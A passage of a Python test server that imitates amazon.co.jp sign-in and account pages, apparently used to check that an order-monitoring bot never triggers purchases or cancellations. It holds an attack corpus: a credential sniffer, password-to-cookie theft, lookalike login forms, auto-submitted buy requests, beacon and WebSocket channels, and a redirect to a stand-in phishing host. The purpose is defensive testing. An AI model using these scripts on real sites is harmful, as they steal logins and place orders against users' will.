"""A local HTTP server that imitates amazon.co.jp for the demo account, at the real paths.

Serves: sign-in (email → password → TOTP at /ap/mfa → session cookie), /your-orders/orders with
timeFilter and paging (the 2025 layout's startIndex=10 or the 2026 layout's page=1, ``history_layout``),
digital order summaries in both templates (the legacy summary, or a redirect to the unified order
details: per order in account.toml, or for all by ``summary_template``), the 1-Click settings page,
product pages. Account pages redirect to sign-in without a valid session cookie.
Account settings (issue 11): Login & Security and 2-step verification (both ask for the password again
when the sign-in is not recent, ``reauth``), memberships, and the digital console's devices and Kindle
content pages with their data endpoint /hz/mycd/digital-console/ajax.

The paths here are literals on purpose, the one exception to orderwatch/site.py being their only home
(tests/test_one_source.py skips this folder): an imitation that imported the bot's own constants would
agree with a wrong one and hide it.

The state-changing endpoints the pages offer (the 1-Click switch and "すべての1-Clickを無効化",
"1-Clickで今すぐ買う", order cancel, add to cart) exist and write every hit to ``ledger``: tests
prove the bot never reaches them. Every request is also kept in ``requests``.

Binds 127.0.0.1 on a free port only. Tests set ``signin_outcome`` to serve the human-only states.
"""

from __future__ import annotations

import base64
import dataclasses
import hashlib
import hmac
import json
import secrets
import threading
import time
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta
from http import HTTPStatus
from http.cookies import SimpleCookie
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Literal, get_args
from urllib.parse import parse_qs, quote, urlencode, urlsplit
from zoneinfo import ZoneInfo

import jinja2
import pyotp

from orderwatch.replay.account import DEMO_DIR, DemoAccount, DemoContent, DemoDevice, DemoOrder, load_account

_ACCOUNT_FOR_CONSTANTS = load_account(date(2000, 1, 1))
DEMO_EMAIL = _ACCOUNT_FOR_CONSTANTS.email
DEMO_PASSWORD = _ACCOUNT_FOR_CONSTANTS.password
DEMO_TOTP_SECRET = _ACCOUNT_FOR_CONSTANTS.totp_secret

SESSION_COOKIE = "x-acbjp"
SESSION_COOKIE_2 = "at-acbjp"
PENDING_COOKIE = "ap-pending"
PAGE_SIZE = 10

PROTECTED_PREFIXES: tuple[str, ...] = (
    "/your-orders/",
    "/gp/digital/",
    "/cpe/",
    "/gp/css/",
    "/gp/your-account/",
    "/ax/",
    "/hz/",
    "/gp/message",  # Message Center (issue 11, verify-email)
)
STATE_CHANGING: tuple[str, ...] = (
    "/cpe/yourpayments/settings/manageoneclick/update",
    "/gp/buy",  # the checkout (/gp/buy/spc/…, /gp/buy/thankyou/…): even a GET there is a step of buying
    "/checkout/entry/buynow",
    "/your-orders/cancel",
    "/gp/add-to-cart/html",
)
# --- account settings pages (issue 11) -------------------------------------------------------------------
# Their state-changing controls. The paths are reconstructions (no recording of these pages exists); every hit
# on them, GET or POST, lands in the ledger. None is under /ap/ (the bot's guard lets GETs to /ap/* through).
# The digital console's actions (DeregisterDevice, DeleteContent, ReturnContent, …) are POSTs to
# CONSOLE_AJAX with another activity: _Handler._console writes those to the ledger.
STATE_CHANGING += (
    "/ax/account/edit",  # Login & Security rows: /ax/account/edit/{name,email,mobile,passkey,password}
    "/ax/account/signout-everywhere",  # "secure your account" → #sign_out_everything_continue_button (POST)
    "/a/settings/approval/setup",  # 2SV enrolment, 「有効にする」 and 「別の予備の方法を追加」 (account-pages.md)
    "/a/settings/approval/update",  # 2SV (POST): change the preferred method, remove a method, forget a browser, off
    "/mc/pipelines/cancellation",  # memberships (POST): 会員登録をキャンセル, a membership or a free trial
    "/mc/pipelines/signup",  # memberships: 再登録する (a cancelled one)
    "/kindle-dbs/hz/signup",  # memberships (POST): a recommendation's 無料体験を始める
)
PROTECTED_PREFIXES += ("/a/settings/", "/hz5/")  # /ax/ and /hz/ are protected already
REAUTH_PATHS = ("/ax/account/manage", "/a/settings/approval")  # ask for the password again (ReplaySite.reauth)
REAUTH_COOKIE = "ap-recent-auth"  # when the password was last entered, signed (this replay's own cookie)
CONSOLE_AJAX = "/hz/mycd/digital-console/ajax"
CONSOLE_READS = ("GetDevicesOverview", "GetContentOwnershipData")  # every other activity changes something
SETTINGS_TEMPLATES = {  # page kind → (path, template)
    "login-security": ("/ax/account/manage", "login-security.html"),
    "two-step": ("/a/settings/approval", "two-step.html"),
    "memberships": ("/hz5/yourmembershipsandsubscriptions", "memberships.html"),
    "devices": ("/hz/mycd/digital-console/alldevices", "devices.html"),
    "content": ("/hz/mycd/digital-console/contentlist/booksAll/dateDsc/", "content.html"),
}
# The *-unreadable faults of the settings pages: the page in a layout no parser knows (ids and labels renamed)
_SETTINGS_UNREADABLE = {
    "login-security": (('_BUTTON"', '_TILE"'), (">Eメール<", ">メールアドレス<"), ('data-device="', 'data-layout="')),
    "two-step": (("ch-settings-otp-", "ch-2sv-v2-"), ("sia-settings-enable-mfa", "sia-2sv-v2-enable")),
    "memberships": (
        ("メンバーシップおよび購読", "ご契約中のサービス"),
        ("次回のお支払い日", "次回請求日"),
        ("会員登録をキャンセル", "解約する"),
        ("キャンセル済み", "解約済み"),
        ("無料体験", "お試し"),
    ),
}
SIGNIN_OUTCOMES = ("ok", "captcha", "approval", "otp-sms", "password-reset", "locked")
# Faults and hostile pages a test can ask for (ReplaySite(faults={...})): the replay's own vocabulary, checked
# by mypy where a fault is named in the code and at ReplaySite() for the tests.
ReplayFault = Literal[
    "orders-500",  # the order history answers HTTP 500
    "orders-500-once",  # … only the first time (a retry succeeds)
    "orders-slow",  # the order history answers after ``slow_s`` seconds
    "orders-reset",  # the order history connection is closed without an answer
    "orders-truncated",  # the order history HTML is cut in half
    "captcha-midrun",  # after the first history page, account pages redirect to a CAPTCHA
    "expire-midrun",  # after the first history page, every session so far expires (once)
    "no-orders",  # the account has no orders at all
    "autosubmit",  # account pages auto-submit a purchase form on load
    "fetch-post",  # account pages POST to the buy endpoint with fetch()
    "beacon",  # account pages send a cancel with navigator.sendBeacon()
    "meta-refresh",  # account pages meta-refresh to an off-site address
    "signin-307",  # the password POST is answered with a 307 to the buy endpoint
    "summary-unreadable",  # the story's Kindle order summary is served in a layout no parser knows
    "one-click-unreadable",  # the 1-Click page is served without its switch
    "orders-page2-500",  # the second order-history page answers HTTP 500 (every time)
    "huge-page",  # the order history is padded to 21 MB (over the guard's page size limit)
    # Message Center (issue 11, verify-email): the page in a layout no parser knows (container, heading
    # and rows renamed); verify-email then says the Message Center was not checked, and keeps the orders
    "messages-unreadable",
    # account settings (issue 11)
    "login-security-unreadable",  # Login & Security in a layout no parser knows (row ids, e-mail label renamed)
    "two-step-unreadable",  # 2-step verification without #ch-settings-otp-* and #sia-settings-enable-mfa
    "memberships-unreadable",  # memberships with its heading and every label renamed
    "devices-unreadable",  # the console answers GetDevicesOverview in a shape without deviceName / deviceList
    "content-unreadable",  # the console answers GetContentOwnershipData with an HTML page, not JSON
    "devices-500",  # the console answers GetDevicesOverview with HTTP 500
    "reauth-captcha",  # the re-authentication's password POST is answered with the CAPTCHA page
]
FAULTS: frozenset[ReplayFault] = frozenset(get_args(ReplayFault))
HISTORY_LAYOUTS = ("2025", "2026")
SUMMARY_TEMPLATES = ("legacy", "unified")
HOSTILE_SCRIPTS = {
    "autosubmit": '<form id="ow-buy" method="post" action="/checkout/entry/buynow"><input type="hidden" name="ASIN" '
    'value="B0DMYST001"></form><script>document.getElementById("ow-buy").submit();</script>',
    "fetch-post": '<script>fetch("/checkout/entry/buynow", {method: "POST", body: "ASIN=B0DMYST001", '
    'credentials: "same-origin"});</script>',
    "beacon": '<script>navigator.sendBeacon("/your-orders/cancel", "orderId=249-3318462-7720615");</script>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://phish.example/amazon/signin">',
}
# The attack corpus (tests/test_attacks.py): hostile pages and modes, each a named attack a test asks for
# (ReplaySite(attacks={...})). An attack is injected before </body> of the account pages ("account"), of the
# sign-in pages ("signin": email, password, code — where scripts run), or of both. Every request it aims at
# the site goes to a state-changing endpoint (/gp/buy/…, the 1-Click switch, the cancel), so one that got
# through lands in ``ledger``. @SITE@ is the replay's host:port, @SINK@ a loopback TCP port and @UDP@ a
# loopback UDP port the test listens on (``sink_port``, ``udp_port``).
_FRAME_WINDOW = (
    "function owFrame() { var f = document.createElement('iframe'); f.style.display = 'none';"
    " (document.body || document.documentElement).appendChild(f); return f.contentWindow; }"
)
ATTACKS: dict[str, tuple[str, str]] = {
    # 1. channels a route cannot see: unload beacons and keepalive fetches, WebSockets, WebRTC
    "unload-beacons": (
        "both",
        "<script>(function () {" + _FRAME_WINDOW + " var w = null; try { w = owFrame(); } catch (e) {}"
        " function out(tag) {"
        "  try { navigator.sendBeacon('/gp/buy/beacon/' + tag, 'orderId=249-3318462-7720615'); } catch (e) {}"
        "  try { fetch('/your-orders/cancel?via=' + tag, {method: 'POST', body: 'orderId=249', keepalive: true}); }"
        "  catch (e) {}"
        "  try { fetch('/gp/buy/keepalive-put/' + tag, {method: 'PUT', body: 'x', keepalive: true}); } catch (e) {}"
        "  try { fetch('/gp/buy/keepalive-get/' + tag, {keepalive: true}); } catch (e) {}"
        "  try { w.navigator.sendBeacon('/gp/buy/frame-beacon/' + tag, 'x'); } catch (e) {}"
        "  try { w.fetch('/gp/buy/frame-keepalive/' + tag, {method: 'POST', body: 'x', keepalive: true}); }"
        "  catch (e) {}"
        " }"
        " addEventListener('pagehide', function () { out('pagehide'); });"
        " addEventListener('unload', function () { out('unload'); });"
        " addEventListener('beforeunload', function () { out('beforeunload'); });"
        " document.addEventListener('visibilitychange', function () { out('visibilitychange'); });"
        "})();</script>",
    ),
    "websockets": (
        "both",
        "<script>(function () {" + _FRAME_WINDOW + " function open(WS, u) {"
        "  try { var ws = new WS(u); ws.onopen = function () { ws.send('orderId=249-3318462-7720615'); }; }"
        "  catch (e) {} }"
        " ['ws://@SITE@/gp/buy/socket', 'ws://127.0.0.1:@SINK@/page', 'ws://localhost:@SINK@/page']"
        "  .forEach(function (u) { open(WebSocket, u); });"
        " try { open(owFrame().WebSocket, 'ws://127.0.0.1:@SINK@/frame'); } catch (e) {}"
        " try { new Worker(URL.createObjectURL(new Blob(["
        "  \"new WebSocket('ws://127.0.0.1:@SINK@/worker'); new WebSocket('ws://@SITE@/gp/buy/worker-socket');\""
        " ], {type: 'text/javascript'}))); } catch (e) {}"
        "})();</script>",
    ),
    "webrtc": (
        "both",
        "<script>(function () {" + _FRAME_WINDOW + " function stun(RTC, tag) {"
        "  try { var pc = new RTC({iceServers: [{urls: 'stun:127.0.0.1:@UDP@'},"
        "   {urls: 'turn:127.0.0.1:@UDP@?transport=udp', username: 'u', credential: 'p'}]});"
        "   pc.createDataChannel(tag); pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });"
        "   window['owpc' + tag] = pc; } catch (e) {} }"
        " stun(window.RTCPeerConnection || window.webkitRTCPeerConnection, 'page');"
        " try { stun(owFrame().RTCPeerConnection, 'frame'); } catch (e) {}"
        "})();</script>",
    ),
    # 2. credentials typed into whatever form is in front of the bot
    "lookalike-form": (
        "account",
        '<div class="a-box" id="ow-lookalike"><h2>セキュリティのため、もう一度ログインしてください</h2>'
        '<form name="signIn" method="get" action="/gp/buy/spc/handlers/static-submit-decoupled.html">'
        '<input type="email" id="ap_email" name="email"><input type="password" id="ap_password" name="password">'
        '<input type="submit" id="signInSubmit" value="ログイン"></form></div>',
    ),
    "lookalike-form-post": (  # a POST to the real sign-in path, but on an order page: still not typed into
        "account",
        '<div class="a-box" id="ow-lookalike"><h2>もう一度ログインしてください</h2>'
        '<form name="signIn" method="post" action="/ap/signin">'
        '<input type="email" id="ap_email" name="email"><input type="password" id="ap_password" name="password">'
        '<input type="submit" id="signInSubmit" value="ログイン"></form></div>',
    ),
    "password-sniffer": (
        "signin",
        "<script>(function () { var sent = {};"
        " function leak(v, tag) { if (!v || sent[tag + '|' + v]) { return; } sent[tag + '|' + v] = 1;"
        "  var q = encodeURIComponent(v);"
        "  try { new Image().src = '/gp/buy/pixel.gif?k=' + q; } catch (e) {}"
        "  try { fetch('/gp/buy/collect/' + q); } catch (e) {}"
        "  try { fetch('/ap/signin?stolen=' + q); } catch (e) {}"
        "  try { var x = new XMLHttpRequest(); x.open('GET', '/your-orders/orders?k=' + q); x.send(); } catch (e) {}"
        "  try { new WebSocket('ws://127.0.0.1:@SINK@/k/' + q); } catch (e) {}"
        "  try { new WebSocket('ws://@SITE@/gp/buy/socket?k=' + q); } catch (e) {}"
        "  try { window.open('/gp/buy/go?k=' + q); } catch (e) {} }"
        " function sweep() { document.querySelectorAll('input').forEach(function (el) {"
        "  if (el.type !== 'hidden') { leak(el.value, el.name || el.id); } }); }"
        " document.addEventListener('input', function (e) { leak(e.target.value, e.target.name); }, true);"
        " document.addEventListener('change', function (e) { leak(e.target.value, e.target.name); }, true);"
        " addEventListener('submit', sweep, true); setInterval(sweep, 15);"
        "})();</script>",
    ),
    "password-cookie": (  # the typed password put into a cookie, which then rides on every request
        "signin",
        "<script>(function () { document.addEventListener('input', function (e) {"
        " if (e.target.type === 'hidden') { return; }"
        " document.cookie = 'ow-' + e.target.name + '=' + encodeURIComponent(e.target.value) + '; path=/';"
        " try { localStorage.setItem('ow-' + e.target.name, e.target.value); } catch (x) {}"
        "}, true); })();</script>",
    ),
    # 3. same-site GETs to the checkout or the 1-Click switch
    "get-frames": (
        "both",
        '<iframe src="/gp/buy/spc/handlers/display.html?hasWorkingJavascript=1"></iframe>'
        '<iframe src="/cpe/yourpayments/settings/manageoneclick/update?enabled=0"></iframe>'
        '<object data="/gp/buy/spc/object.html" type="text/html"></object><embed src="/gp/buy/spc/embed.html">',
    ),
    "get-subresources": (
        "both",
        '<script src="/gp/buy/thankyou/handlers/display.js"></script>'
        '<link rel="stylesheet" href="/gp/buy/spc/style.css">'
        '<style>@import url("/cpe/yourpayments/settings/manageoneclick/update?enabled=0&via=import");</style>',
    ),
    "get-hints": (
        "both",
        '<link rel="prefetch" href="/gp/buy/spc/prefetch"><link rel="prerender" href="/gp/buy/spc/prerender">'
        '<link rel="preload" as="fetch" href="/gp/buy/spc/preload-fetch" crossorigin>'
        '<link rel="preload" as="document" href="/gp/buy/spc/preload-document">'
        '<link rel="preload" as="script" href="/gp/buy/spc/preload.js">'
        '<link rel="preload" as="style" href="/cpe/yourpayments/settings/manageoneclick/update?enabled=0">'
        '<link rel="modulepreload" href="/gp/buy/spc/module.js">',
    ),
    "speculation-rules": (
        "both",
        '<script type="speculationrules">{"prerender": [{"source": "list", "urls": ["/gp/buy/spc/speculation"]}],'
        ' "prefetch": [{"source": "list", "urls": ["/gp/buy/spc/speculation-prefetch"]}]}</script>',
    ),
    "get-meta-refresh": ("both", '<meta http-equiv="refresh" content="0;url=/gp/buy/spc/refresh">'),
    "get-anchor-ping": (
        "both",
        '<a id="ow-ping" href="/gp/buy/spc/ping-target" ping="/gp/buy/spc/ping">おすすめ</a>'
        "<script>setTimeout(function () { document.getElementById('ow-ping').click(); }, 0);</script>",
    ),
    "get-fetch-xhr": (
        "both",
        "<script>try { fetch('/gp/buy/spc/fetch'); } catch (e) {}"
        " try { fetch('/gp/buy/spc/fetch-head', {method: 'HEAD'}); } catch (e) {}"
        " try { var x = new XMLHttpRequest();"
        " x.open('GET', '/cpe/yourpayments/settings/manageoneclick/update?enabled=0'); x.send(); } catch (e) {}"
        "</script>",
    ),
    "get-eventsource": ("both", "<script>try { new EventSource('/gp/buy/spc/events'); } catch (e) {}</script>"),
    "get-workers": (
        "both",
        "<script>try { new Worker('/gp/buy/spc/worker.js'); } catch (e) {}"
        " try { new SharedWorker('/gp/buy/spc/shared-worker.js'); } catch (e) {}"
        " try { navigator.serviceWorker.register('/gp/buy/spc/sw.js'); } catch (e) {}"
        " try { new Worker(URL.createObjectURL(new Blob(["
        "  \"fetch('/gp/buy/spc/from-worker'); fetch('/gp/buy/spc/from-worker-keepalive', {keepalive: true});"
        "  var x = new XMLHttpRequest(); x.open('GET', '/cpe/yourpayments/settings/manageoneclick/update?w=1');"
        "  x.send();\"], {type: 'text/javascript'}))); } catch (e) {}</script>",
    ),
    "get-location": (
        "both",
        "<script>setTimeout(function () { location.assign('/gp/buy/spc/location'); }, 0);"
        " setTimeout(function () { location.replace('/cpe/yourpayments/settings/manageoneclick/update?enabled=0');"
        " }, 30);</script>",
    ),
    "get-form": (
        "both",
        '<form id="ow-get" method="get" action="/cpe/yourpayments/settings/manageoneclick/update">'
        '<input type="hidden" name="enabled" value="0"></form>'
        "<script>setTimeout(function () { document.getElementById('ow-get').submit(); }, 0);</script>",
    ),
    "get-window-open": (
        "both",
        "<script>try { window.open('/gp/buy/spc/popup'); } catch (e) {}"
        " try { window.open('/cpe/yourpayments/settings/manageoneclick/update?enabled=0', 'ow', 'popup'); }"
        " catch (e) {}</script>",
    ),
    # 5. scripts adding or hiding order cards: the first card removed (its hidden copy too), a fake one added
    "card-swap": (
        "account",
        "<script>(function () { var box = document.getElementById('ordersContainer'); if (!box) { return; }"
        " var cards = box.querySelectorAll('.order-card'); if (cards.length < 2) { return; }"
        " var id = cards[0].querySelector('.yohtmlc-order-id span[dir=ltr]').textContent.trim();"
        " var fake = cards[1].cloneNode(true);"
        " var fakeId = fake.querySelector('.yohtmlc-order-id span[dir=ltr]');"
        " fake.innerHTML = fake.innerHTML.split(fakeId.textContent.trim()).join('503-6660666-0000001');"
        " box.querySelectorAll('.order-card').forEach(function (c) {"
        "  if (c.innerHTML.indexOf(id) >= 0) { c.remove(); } });"
        " box.insertBefore(fake, box.firstChild); })();</script>",
    ),
}
# Attacks that are answers of the site rather than markup.
ATTACK_MODES = frozenset(
    {
        "signin-form-get",  # the password page's form uses GET (the password would go into a URL)
        "signin-302-buy",  # the password POST is answered with a 302 to a checkout page
    }
)
SIGNIN_TEMPLATES = ("signin-email.html", "signin-password.html", "mfa.html")


@dataclass(frozen=True)
class LedgerEntry:
    """One hit on a state-changing endpoint: the thing the bot must never cause."""

    method: str
    path: str
    fields: tuple[str, ...]
    at: float


@dataclass
class ReplaySite:
    as_of: date | None = None
    signin_outcome: str = "ok"
    signed_out_page: bool = False  # serve a signed-out page instead of redirecting to sign-in
    faults: frozenset[ReplayFault] = frozenset()
    slow_s: float = 3.0
    credentials: tuple[str, str, str] | None = None  # (email, password, TOTP secret) instead of the demo's
    session_max_age: timedelta = timedelta(days=14)
    ledger_path: Path | None = None
    templates: Path = DEMO_DIR
    ledger: list[LedgerEntry] = field(default_factory=list)
    requests: list[tuple[str, str]] = field(default_factory=list)
    raw_requests: list[bytes] = field(default_factory=list)  # every request as it arrived: line, headers, body
    attacks: frozenset[str] = frozenset()  # named hostile pages and modes (ATTACKS, ATTACK_MODES)
    sink_port: int = 9  # a loopback TCP port the attacks aim WebSockets at (a test listens there)
    udp_port: int = 9  # a loopback UDP port the attacks aim STUN/TURN at (a test listens there)
    one_click_enabled: bool | None = None
    history_layout: str = "2025"  # "2026": count in the time filter's <b>, pagination by page=N
    summary_template: str | None = None  # None: per order (account.toml); "legacy" | "unified" for all
    # account settings (issue 11). Other settings: site.account = dataclasses.replace(site.account, devices=…)
    reauth: bool = True  # Login & Security and 2SV ask for the password again unless the sign-in is recent
    reauth_max_age: timedelta = timedelta(minutes=10)  # recent: the session issued, or the password re-entered
    two_step_enabled: bool | None = None  # None: as account.toml says
    _server: ThreadingHTTPServer | None = None
    _thread: threading.Thread | None = None
    _pending: dict[str, str] = field(default_factory=dict)
    _lock: threading.Lock = field(default_factory=threading.Lock)

    def __post_init__(self) -> None:
        if self.signin_outcome not in SIGNIN_OUTCOMES:
            raise ValueError(f"signin_outcome must be one of {SIGNIN_OUTCOMES}")
        if unknown_faults := {str(f) for f in self.faults} - set(FAULTS):  # tests name them in strings mypy skips
            raise ValueError(f"unknown faults {sorted(unknown_faults)}; known: {sorted(FAULTS)}")
        self.faults = frozenset(self.faults)
        unknown = set(self.attacks) - set(ATTACKS) - ATTACK_MODES
        if unknown:
            raise ValueError(f"unknown attacks {sorted(unknown)}; known: {sorted(set(ATTACKS) | ATTACK_MODES)}")
        self.attacks = frozenset(self.attacks)
        if self.history_layout not in HISTORY_LAYOUTS:
            raise ValueError(f"history_layout must be one of {HISTORY_LAYOUTS}")
        if self.summary_template is not None and self.summary_template not in SUMMARY_TEMPLATES:
            raise ValueError(f"summary_template must be one of {SUMMARY_TEMPLATES}")
        self.history_pages_served = 0
        self.history_failures = 0
        self.session_not_before_ms = 0
        if self.as_of is None:
            self.as_of = datetime.now(ZoneInfo("Asia/Tokyo")).date()
        self.account: DemoAccount = load_account(self.as_of)
        if self.credentials is not None:
            email, password, secret = self.credentials
            self.account = dataclasses.replace(self.account, email=email, password=password, totp_secret=secret)
        if "no-orders" in self.faults:
            self.account = dataclasses.replace(self.account, orders=())
        if self.one_click_enabled is None:
            self.one_click_enabled = self.account.one_click_enabled
        if self.two_step_enabled is not None:  # issue 11
            self.account = dataclasses.replace(self.account, two_step_enabled=self.two_step_enabled)
        self.recent_auth_not_before_ms = 0  # issue 11: see age_recent_auth
        self.env = jinja2.Environment(
            loader=jinja2.FileSystemLoader(self.templates), autoescape=True, undefined=jinja2.StrictUndefined
        )
        self.env.filters.update(jadate=_jadate, slashdate=_slashdate, yen=_yen, jashort=_jashort)

    # --- lifecycle ---------------------------------------------------------------------------------
    def start(self) -> str:
        """Start serving on 127.0.0.1 and a free port; returns the base URL."""
        handler = type("Handler", (_Handler,), {"site": self})
        self._server = _QuietServer(("127.0.0.1", 0), handler)
        self._server.daemon_threads = True
        # poll_interval: how long shutdown() may wait for the loop to notice (the default 0.5 s is most of a stop)
        self._thread = threading.Thread(
            target=self._server.serve_forever, kwargs={"poll_interval": 0.02}, name="replay-site", daemon=True
        )
        self._thread.start()
        return self.base_url

    @property
    def base_url(self) -> str:
        assert self._server is not None, "replay site not started"
        host, port = self._server.server_address[:2]
        return f"http://{host!s}:{port}"

    def stop(self) -> None:
        if self._server is not None:
            self._server.shutdown()
            self._server.server_close()
            self._server = None

    def __enter__(self) -> ReplaySite:
        self.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop()

    # --- what tests look at --------------------------------------------------------------------------
    def signin_requests(self) -> list[tuple[str, str]]:
        return [r for r in self.requests if urlsplit(r[1]).path.startswith("/ap/")]

    def record(self, method: str, path: str, raw: bytes = b"") -> None:
        with self._lock:
            self.requests.append((method, path))
            self.raw_requests.append(raw)

    def record_ledger(self, method: str, path: str, fields: tuple[str, ...]) -> None:
        entry = LedgerEntry(method, path, fields, time.time())
        with self._lock:
            self.ledger.append(entry)
            if self.ledger_path is not None:
                with self.ledger_path.open("a", encoding="utf-8") as fh:
                    fh.write(json.dumps(entry.__dict__, ensure_ascii=False) + "\n")

    # --- sessions ----------------------------------------------------------------------------------
    _SECRET = b"orderwatch-demo-replay-session"  # a demo site: sessions survive restarts of the demo

    def issue_session(self, age: timedelta = timedelta(0)) -> str:
        issued = str(int((time.time() - age.total_seconds()) * 1000))  # age: issued that long ago
        sig = hmac.new(self._SECRET, issued.encode(), hashlib.sha256).hexdigest()[:32]
        return f"{issued}.{sig}"

    def session_valid(self, token: str | None) -> bool:
        if not token or "." not in token:
            return False
        issued, sig = token.split(".", 1)
        good = hmac.new(self._SECRET, issued.encode(), hashlib.sha256).hexdigest()[:32]
        if not (issued.isdigit() and hmac.compare_digest(sig, good)):
            return False
        issued_ms = int(issued)
        age_s = time.time() - issued_ms / 1000
        return issued_ms >= self.session_not_before_ms and age_s < self.session_max_age.total_seconds()

    def expire_sessions(self) -> None:
        """Make every session issued so far invalid (the site's "session expired"); new ones are fine."""
        self.session_not_before_ms = int(time.time() * 1000) + 1
        time.sleep(0.002)

    def render(self, template: str, **ctx: Any) -> str:
        hostile = "".join(HOSTILE_SCRIPTS[f] for f in sorted(self.faults) if f in HOSTILE_SCRIPTS)
        ctx.setdefault("hostile_html", hostile if ctx.get("signed_in") else "")
        html = self.env.get_template(template).render(account=self.account, **ctx)
        return self._attacked(template, html, signed_in=bool(ctx.get("signed_in")))

    def _attacked(self, template: str, html: str, *, signed_in: bool) -> str:
        """The page with the attacks meant for it (sign-in pages, or account pages) before its </body>."""
        if not self.attacks:
            return html
        place = "signin" if template in SIGNIN_TEMPLATES else "account" if signed_in else None
        if template == "signin-password.html" and "signin-form-get" in self.attacks:
            html = html.replace('name="signIn" method="post"', 'name="signIn" method="get"')
        markup = "".join(
            ATTACKS[a][1] for a in sorted(self.attacks) if a in ATTACKS and ATTACKS[a][0] in (place, "both")
        )
        if not markup or place is None:
            return html
        assert self._server is not None
        site = "{}:{}".format(*self._server.server_address[:2])
        markup = markup.replace("@SITE@", site).replace("@SINK@", str(self.sink_port))
        markup = markup.replace("@UDP@", str(self.udp_port))
        head, tail = html.rsplit("</body>", 1) if "</body>" in html else (html, "")
        return head + markup + "</body>" + tail

    # --- account settings (issue 11) ----------------------------------------------------------------------
    def issue_reauth(self, age: timedelta = timedelta(0)) -> str:
        """The recent-authentication cookie's value: when the password was entered (``age`` ago), signed."""
        at = str(int((time.time() - age.total_seconds()) * 1000))
        return f"{at}.{hmac.new(self._SECRET, b'reauth:' + at.encode(), hashlib.sha256).hexdigest()[:32]}"

    def recently_authenticated(self, session: str | None, reauth: str | None) -> bool:
        """True when the session was issued, or the password re-entered, less than ``reauth_max_age`` ago."""
        now_ms, limit_ms = time.time() * 1000, self.reauth_max_age.total_seconds() * 1000
        times = []
        if self.session_valid(session):
            times.append(int(str(session).split(".", 1)[0]))
        if reauth and "." in reauth:
            at, sig = reauth.split(".", 1)
            good = hmac.new(self._SECRET, b"reauth:" + at.encode(), hashlib.sha256).hexdigest()[:32]
            if at.isdigit() and hmac.compare_digest(sig, good):
                times.append(int(at))
        return any(now_ms - t < limit_ms and t >= self.recent_auth_not_before_ms for t in times)

    def age_recent_auth(self) -> None:
        """Make every sign-in and re-authentication so far no longer recent (the sessions stay valid): the
        sensitive pages then ask for the password again. New ones are recent."""
        self.recent_auth_not_before_ms = int(time.time() * 1000) + 1
        time.sleep(0.002)

    def csrf_token(self, session: str) -> str:
        """The console page's csrfToken for a session (the ajax endpoint accepts only this one)."""
        digest = hmac.new(self._SECRET, b"csrf:" + session.encode(), hashlib.sha256).digest()
        return base64.b64encode(digest[:30]).decode()

    def settings_html(self, page: str, session: str = "") -> str:
        """A settings page (SETTINGS_TEMPLATES: login-security, two-step, memberships, devices, content) as
        the site serves it to ``session``; with its ``<page>-unreadable`` fault, in a layout no parser knows."""
        _, template = SETTINGS_TEMPLATES[page]
        html = self.render(
            template, signed_in=True, action_token=secrets.token_hex(8), csrf_token=self.csrf_token(session), tab=page
        )
        if f"{page}-unreadable" in self.faults:
            for old, new in _SETTINGS_UNREADABLE.get(page, ()):
                html = html.replace(old, new)
        return html

    def console_answer(self, activity: str, activity_input: dict[str, Any]) -> tuple[int, str, str]:
        """The console's answer to a read activity: (HTTP status, body, content type). The envelope is a
        reconstruction: ``{"success": true, "<activity>": {"success": true, …}}``."""
        if activity == "GetDevicesOverview":
            if "devices-500" in self.faults:
                return 500, "<html><body><h1>500 Internal Server Error</h1></body></html>", "text/html"
            devices = [_device_json(d) for d in self.account.devices]
            if "devices-unreadable" in self.faults:
                shape = [{"friendlyName": d["deviceName"], "family": d["deviceFamily"]} for d in devices]
                return 200, json.dumps({"success": True, activity: {"success": True, "devicesV2": shape}}), _JSON
            default = next((d for d in devices if d["isDefaultDevice"]), None)
            answer = {
                "deviceList": devices,
                "totalDevices": len(devices),
                "defaultDevice": default,  # the default device once more, as a separate field
                "surfaceType": activity_input.get("surfaceType", "LargeDesktop"),
            }
        else:
            if "content-unreadable" in self.faults:
                busy = "<div id='a-page'>しばらくしてから再度お試しください。</div>"
                return 200, f"<!doctype html><html><body>{busy}</body></html>", "text/html"
            items = list(self.account.content)
            if activity_input.get("contentCategoryReference", "booksAll") != "booksAll":
                items = []
            if activity_input.get("sortOrder", "DESCENDING") == "ASCENDING":
                items.reverse()
            start = max(0, int(activity_input.get("startIndex", 0)))
            batch = max(1, min(int(activity_input.get("batchSize", 25)), 200))
            answer = {
                "numberOfItems": len(items),
                "hasMoreItems": start + batch < len(items),
                "items": [_content_json(c) for c in items[start : start + batch]],
            }
        return 200, json.dumps({"success": True, activity: {"success": True, **answer}}, ensure_ascii=False), _JSON

    def order_history_html(self, time_filter: str = "last30", start: int = 0) -> str:
        """The order-history page as the site serves it: 10 orders from ``start``, the filter's total
        in ``span.num-orders``, pagination, and the first card repeated in a hidden narrow layout."""
        assert self.as_of is not None
        orders = _filter(self.account.orders, time_filter, self.as_of)
        page = orders[start : start + PAGE_SIZE]

        def url(s: int) -> str:
            if self.history_layout == "2026":  # pages numbered from 0 (real amazon.de 2026 pages)
                return "/your-orders/orders?" + urlencode({"timeFilter": time_filter, "page": s // PAGE_SIZE})
            return "/your-orders/orders?" + urlencode({"timeFilter": time_filter, "startIndex": s})

        year = self.as_of.year
        html = self.render(
            "order-history.html",
            signed_in=True,
            orders=page,
            duplicate=page[0] if page else None,
            declared=len(orders),
            layout=self.history_layout,
            time_filter=time_filter,
            filters=[("last30", "過去30日間"), ("months-3", "過去3か月")]
            + [(f"year-{y}", f"{y}年") for y in (year, year - 1, year - 2)],
            pages=[
                {"number": i // PAGE_SIZE + 1, "url": url(i), "current": i == start}
                for i in range(0, len(orders), PAGE_SIZE)
            ],
            prev_url=url(start - PAGE_SIZE) if start > 0 else None,
            next_url=url(start + PAGE_SIZE) if start + PAGE_SIZE < len(orders) else None,
        )
        return html[: len(html) // 2] if "orders-truncated" in self.faults else html

    # --- Message Center (issue 11, verify-email; a reconstruction: message-center.html) -----------------
    def message_center_html(self, folder: str = "all") -> str:
        """The Message Center: the messages of account.toml, newest first; ``folder`` is a tab
        (all, purchase, shipping, account). With the ``messages-unreadable`` fault, in a layout no parser knows."""
        folder = folder if folder in _MESSAGE_TABS else "all"
